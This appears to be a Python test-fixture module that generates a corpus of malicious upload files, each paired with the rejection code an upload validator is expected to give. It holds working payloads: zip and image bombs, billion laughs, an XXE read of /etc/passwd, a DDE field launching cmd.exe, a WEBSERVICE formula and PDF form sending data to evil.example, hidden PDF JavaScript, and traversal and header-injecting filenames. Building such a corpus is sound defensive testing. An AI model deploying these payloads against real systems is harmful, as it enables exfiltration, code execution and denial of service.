"""Files that somebody might send to do harm, made when asked for: name, bytes, and the refusal that each gets."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import NamedTuple

from docx import Document
from openpyxl import Workbook
from PIL import Image

MB = 1024 * 1024


class Hostile(NamedTuple):
    """One of them: what it is, what it is called, how it is made, and the code of its refusal."""

    what: str
    name: str
    make: Callable[[], bytes]
    code: str


# ── sound files to spoil ───────────────────────────────────────────────────


def saved(thing: Document | Workbook) -> bytes:
    buffer = io.BytesIO()
    thing.save(buffer)
    return buffer.getvalue()


def document() -> bytes:
    return saved(Document())


def workbook() -> bytes:
    return saved(Workbook())


def picture(sort: str = "JPEG", size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(buffer, sort, **options)
    return buffer.getvalue()


def pdf(*objects: bytes, trailer: bytes = b"<</Root 1 0 R>>") -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (no, each) for no, each in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer\n" + trailer + b"\nstartxref\n0\n%%EOF\n"


def stream(data: bytes, dictionary: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def with_part(content: bytes, name: str, data: bytes) -> bytes:
    """The same archive with one part more, or with that part replaced."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, data)
    return buffer.getvalue()


def replaced(content: bytes, name: str, old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return with_part(content, name, archive.read(name).replace(old, new))


def relationship(target: str, sort: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="http://x/{sort}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def zipped(name: str = "a.txt", data: bytes = b"x") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


# ── the archives ───────────────────────────────────────────────────────────


def lying_about_its_size() -> bytes:
    """A part that unpacks to far more than the archive says."""
    bomb = with_part(document(), "word/media/image1.bin", b"\0" * (40 * MB))
    at = bomb.rfind(b"word/media/image1.bin") - 46
    return bomb[: at + 24] + struct.pack("<L", 1000) + bomb[at + 28 :]


def overlapping() -> bytes:
    """Many entries that share one packed block (Fifield, A better zip bomb, 2019)."""
    content = bytearray(with_part(document(), "word/media/image1.bin", b"\0" * (10 * MB)))
    at = content.rfind(b"word/media/image1.bin") - 46
    end = content.rfind(b"PK\x05\x06")
    entry = bytes(content[at : at + 46 + 21])
    more = b"".join(entry.replace(b"image1", b"image%d" % no) for no in range(2, 9))
    content[end:end] = more
    count = struct.unpack_from("<H", content, end + len(more) + 10)[0] + 7
    struct.pack_into("<HH", content, end + len(more) + 8, count, count)
    size = struct.unpack_from("<L", content, end + len(more) + 12)[0] + len(more)
    struct.pack_into("<L", content, end + len(more) + 12, size)
    return bytes(content)


def nested(levels: int) -> bytes:
    inner = zipped("bomb", b"\0" * MB)
    for _level in range(levels):
        inner = zipped("inner.zip", inner)
    return inner


def chart_in_chart() -> bytes:
    """A workbook inside a workbook inside a document."""
    inner = with_part(workbook(), "xl/embeddings/a.xlsx", workbook())
    return with_part(document(), "word/embeddings/b.xlsx", inner)


def encrypted_entries() -> bytes:
    content = bytearray(document())
    at = content.rfind(b"word/document.xml") - 46
    content[at + 8] |= 1
    return bytes(content)


def many_parts() -> bytes:
    buffer = io.BytesIO(document())
    with zipfile.ZipFile(buffer, "a") as archive:
        for number in range(5_001):
            archive.writestr(f"customXml/more{number}.xml", b"")
    return buffer.getvalue()


def duplicate() -> bytes:
    """Two parts with one name: which of them a program shows is its own affair."""
    return with_part(document(), "word/Document.xml", b"<x/>")


# ── the pictures ───────────────────────────────────────────────────────────


def png_of(width: int, height: int, data: bytes) -> bytes:
    def chunk(sort: bytes, body: bytes) -> bytes:
        return struct.pack("!L", len(body)) + sort + body + struct.pack("!L", zlib.crc32(sort + body))

    header = struct.pack("!LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def jpeg_of(width: int, height: int) -> bytes:
    """A small JPEG that says it is a large one."""
    content = bytearray(picture())
    at = content.find(b"\xff\xc0")
    struct.pack_into("!HH", content, at + 5, height, width)
    return bytes(content)


def many_scans() -> bytes:
    """A progressive JPEG whose last scan is repeated a thousand times: each is drawn over the whole picture."""
    content = picture(progressive=True)
    last = content.rfind(b"\xff\xda")
    return content[:-2] + content[last:-2] * 1_000 + b"\xff\xd9"


# ── the corpus ─────────────────────────────────────────────────────────────

HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + no, b"&%c;" % (97 + no) * 10) for no in range(9))
    + b"]><l>&j;</l>"
)
MACRO_TYPES = b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
FLATE = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
FIELD = (
    b'<w:document xmlns:w="x"><w:instrText>DDE</w:instrText><w:t>a</w:t>'
    b'<w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:document>'
)
CELL = b'<worksheet><sheetData><row><c><f>_xlfn.WEBSERVICE ("http://evil.example/"&amp;A1)</f></c></row></sheetData></worksheet>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600

CORPUS = [
    # Names
    Hostile("program", "setup.exe", lambda: b"MZ" + b"\0" * 100, "type_not_allowed"),
    Hostile("program behind a picture's name", "photo.jpg.exe", picture, "type_not_allowed"),
    Hostile("name with NUL", "photo.exe\0.jpg", lambda: b"MZ" + b"\0" * 100, "lying_extension"),
    Hostile("name that ends behind a NUL", "photo.jpg\0.exe", picture, "type_not_allowed"),
    Hostile("name turned around", "photo\u202egpj.exe", picture, "type_not_allowed"),
    Hostile("name of another stream", "photo.jpg::$DATA", picture, "type_not_allowed"),
    Hostile("name that climbs", "../../../etc/cron.d/job", picture, "type_not_allowed"),
    Hostile("name without end", "a" * 5_000 + ".exe", picture, "type_not_allowed"),
    Hostile("name that is only an ending", ".htaccess", lambda: b"AddType", "type_not_allowed"),
    Hostile("name with a line break", "a.pdf\r\nX-Evil: 1", lambda: pdf(b"<<>>"), "type_not_allowed"),
    Hostile("drawing that runs", "a.svg", lambda: SVG, "type_not_allowed"),
    Hostile("page", "a.html", lambda: HTML, "type_not_allowed"),
    Hostile("macro document by name", "a.docm", document, "type_not_allowed"),
    Hostile("archive", "a.zip", zipped, "type_not_allowed"),
    # Renamed
    Hostile("program as a photo", "a.jpg", lambda: b"MZ" + b"\0" * 100, "lying_extension"),
    Hostile("Linux program as a PDF", "a.pdf", lambda: b"\x7fELF" + b"\0" * 100, "lying_extension"),
    Hostile("page as a photo", "a.jpg", lambda: HTML, "lying_extension"),
    Hostile("drawing as a picture", "a.png", lambda: SVG, "lying_extension"),
    Hostile("archive as a document", "a.docx", zipped, "lying_extension"),
    Hostile("document as a workbook", "a.xlsx", document, "lying_extension"),
    Hostile("old macro document as a new one", "a.docx", lambda: OLE, "protected"),
    Hostile("PDF behind a page", "a.pdf", lambda: HTML + pdf(b"<<>>"), "lying_extension"),
    # Two at once
    Hostile("photo and archive", "a.jpg", lambda: picture() + zipped(), "contains_files"),
    Hostile("picture and archive", "a.png", lambda: picture("PNG") + zipped(), "contains_files"),
    Hostile("PDF and archive", "a.pdf", lambda: pdf(b"<<>>") + zipped(), "contains_files"),
    Hostile("PDF and page", "a.pdf", lambda: pdf(b"<<>>") + HTML, "damaged"),
    # Pictures
    Hostile("photo cut off", "a.jpg", lambda: picture(size=(640, 480))[:-3_000], "damaged"),
    Hostile("picture cut off", "a.png", lambda: picture("PNG")[:-900], "damaged"),
    Hostile("bomb of a picture", "a.png", lambda: png_of(20_000, 20_000, b"\0" * MB), "image_too_large"),
    Hostile("small bomb of a picture", "a.png", lambda: png_of(6_000, 6_000, b"\0" * 1_000), "image_too_large"),
    Hostile("photo of huge dimensions", "a.jpg", lambda: jpeg_of(65_500, 65_500), "image_too_large"),
    Hostile("photo that says it is larger", "a.jpg", lambda: jpeg_of(6_000, 6_000), "image_too_large"),
    Hostile("photo of a thousand scans", "a.jpg", many_scans, "damaged"),
    Hostile("nothing but the beginning of a photo", "a.jpg", lambda: b"\xff\xd8\xff", "lying_extension"),
    # Archives
    Hostile(
        "bomb", "a.docx", lambda: with_part(document(), "word/media/a.bin", b"\0" * (101 * MB)), "archive_too_large"
    ),
    Hostile(
        "bomb in text",
        "a.docx",
        lambda: with_part(document(), "word/document.xml", b" " * (25 * MB)),
        "archive_too_large",
    ),
    Hostile("bomb that lies about its size", "a.docx", lying_about_its_size, "lying_extension"),
    Hostile("overlapping bomb", "a.docx", overlapping, "lying_extension"),
    Hostile("too many parts", "a.docx", many_parts, "archive_too_large"),
    Hostile(
        "archives in archives", "a.docx", lambda: with_part(document(), "word/media/a.png", nested(5)), "contains_files"
    ),
    Hostile("workbook in a workbook in a document", "a.docx", chart_in_chart, "contains_files"),
    Hostile(
        "packaged program",
        "a.docx",
        lambda: with_part(document(), "word/embeddings/oleObject1.bin", OLE),
        "contains_files",
    ),
    Hostile(
        "program as a picture inside",
        "a.docx",
        lambda: with_part(document(), "word/media/a.png", b"MZ\0\0"),
        "contains_files",
    ),
    Hostile("part that climbs", "a.docx", lambda: with_part(document(), "../../evil.xml", b"<x/>"), "lying_extension"),
    Hostile(
        "part with a backslash", "a.xlsx", lambda: with_part(workbook(), "xl\\..\\evil.xml", b"<x/>"), "lying_extension"
    ),
    Hostile("two parts of one name", "a.docx", duplicate, "lying_extension"),
    Hostile("encrypted parts", "a.docx", encrypted_entries, "lying_extension"),
    # Office files that act
    Hostile("macros", "a.docx", lambda: with_part(document(), "word/vbaProject.bin", OLE), "reaches_outside"),
    Hostile(
        "macros by type", "a.docx", lambda: with_part(document(), "[Content_Types].xml", MACRO_TYPES), "reaches_outside"
    ),
    Hostile(
        "macros of Excel 4",
        "a.xlsx",
        lambda: with_part(workbook(), "xl/macrosheets/sheet1.xml", b"<x/>"),
        "reaches_outside",
    ),
    Hostile(
        "link to a workbook",
        "a.xlsx",
        lambda: with_part(workbook(), "xl/externalLinks/externalLink1.xml", b"<x/>"),
        "reaches_outside",
    ),
    Hostile(
        "data connection", "a.xlsx", lambda: with_part(workbook(), "xl/connections.xml", b"<x/>"), "reaches_outside"
    ),
    Hostile(
        "formula that fetches",
        "a.xlsx",
        lambda: with_part(workbook(), "xl/worksheets/sheet1.xml", CELL),
        "reaches_outside",
    ),
    Hostile(
        "field that starts a program",
        "a.docx",
        lambda: with_part(document(), "word/document.xml", FIELD),
        "reaches_outside",
    ),
    Hostile(
        "template from a network",
        "a.docx",
        lambda: with_part(
            document(), "word/_rels/settings.xml.rels", relationship("https://evil.example/t.dotm", "attachedTemplate")
        ),
        "reaches_outside",
    ),
    Hostile(
        "picture from a network share",
        "a.docx",
        lambda: with_part(document(), "word/_rels/header1.xml.rels", relationship(r"\\evil\a.png", "image")),
        "reaches_outside",
    ),
    Hostile(
        "page as a part",
        "a.docx",
        lambda: with_part(document(), "word/_rels/settings.xml.rels", relationship("a.html", "aFChunk")),
        "reaches_outside",
    ),
    Hostile("outside entity", "a.docx", lambda: with_part(document(), "word/document.xml", XXE), "lying_extension"),
    Hostile(
        "outside entity in UTF-16",
        "a.docx",
        lambda: with_part(document(), "word/document.xml", XXE.decode().encode("utf-16")),
        "lying_extension",
    ),
    Hostile(
        "outside entity in a sheet",
        "a.xlsx",
        lambda: with_part(workbook(), "xl/worksheets/sheet1.xml", XXE),
        "lying_extension",
    ),
    Hostile(
        "outside entity in an encoding of its own",
        "a.xlsx",
        lambda: with_part(workbook(), "xl/styles.xml", b'<?xml version="1.0" encoding="utf-7"?><x/>'),
        "lying_extension",
    ),
    Hostile(
        "billion laughs", "a.xlsx", lambda: with_part(workbook(), "xl/sharedStrings.xml", LAUGHS), "lying_extension"
    ),
    # PDF
    Hostile("script in a PDF", "a.pdf", lambda: pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", SCRIPT), "active_pdf"),
    Hostile("script with an escaped name", "a.pdf", lambda: pdf(b"<</S/J#61v#61Script/JS(x)>>"), "active_pdf"),
    Hostile(
        "script in an object stream", "a.pdf", lambda: pdf(stream(zlib.compress(b"2 0 " + SCRIPT), FLATE)), "active_pdf"
    ),
    Hostile(
        "script in a stream packed twice",
        "a.pdf",
        lambda: pdf(
            stream(zlib.compress(SCRIPT).hex().encode(), FLATE.replace(b"/Flate", b"[/ASCIIHexDecode/Flate") + b"]")
        ),
        "active_pdf",
    ),
    Hostile(
        "bomb of an object stream",
        "a.pdf",
        lambda: pdf(stream(zlib.compress(b" " * (40 * MB)), FLATE)),
        "archive_too_large",
    ),
    Hostile(
        "script in an object stream behind a long dictionary",
        "a.pdf",
        lambda: pdf(stream(zlib.compress(SCRIPT), FLATE + b" " * 9_000 + b"(obj)")),
        "active_pdf",
    ),
    Hostile(
        "object stream with an escaped type",
        "a.pdf",
        lambda: pdf(stream(zlib.compress(SCRIPT), FLATE.replace(b"ObjStm", b"Obj#53tm"))),
        "active_pdf",
    ),
    Hostile(
        "many small object streams",
        "a.pdf",
        lambda: pdf(*[stream(zlib.compress(b" " * 8_000), FLATE)] * 5_000),
        "archive_too_large",
    ),
    Hostile("PDF of nothing but streams", "a.pdf", lambda: pdf(b"stream\n" * 2_500_000), "archive_too_large"),
    Hostile("PDF of nothing but names", "a.pdf", lambda: pdf(b"/" * (19 * MB)), "archive_too_large"),
    Hostile("PDF of nothing but escapes", "a.pdf", lambda: pdf(b"/a#61" * 3_000_000), "archive_too_large"),
    Hostile("PDF of escapes", "a.pdf", lambda: pdf(b"/a#61" * 1_900_000), "active_pdf"),
    Hostile("program started by a PDF", "a.pdf", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "active_pdf"),
    Hostile("file in a PDF", "a.pdf", lambda: pdf(b"<</Names<</EmbeddedFiles 2 0 R>>>>"), "active_pdf"),
    Hostile(
        "form of a PDF that sends", "a.pdf", lambda: pdf(b"<</S/SubmitForm/F(https://evil.example)>>"), "active_pdf"
    ),
    Hostile("encrypted PDF", "a.pdf", lambda: pdf(b"<<>>", trailer=b"<</Root 1 0 R/Encrypt 2 0 R>>"), "protected"),
    Hostile("PDF cut off", "a.pdf", lambda: pdf(b"<<>>")[:-8], "damaged"),
    # Sizes
    Hostile("nothing", "a.pdf", lambda: b"", "empty_file"),
    Hostile("too much", "a.pdf", lambda: pdf(b"<<>>") + b"\n" * (20 * MB), "file_too_large"),
    Hostile("photo that few programs open", "a.jpg", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 40, "heic"),
]
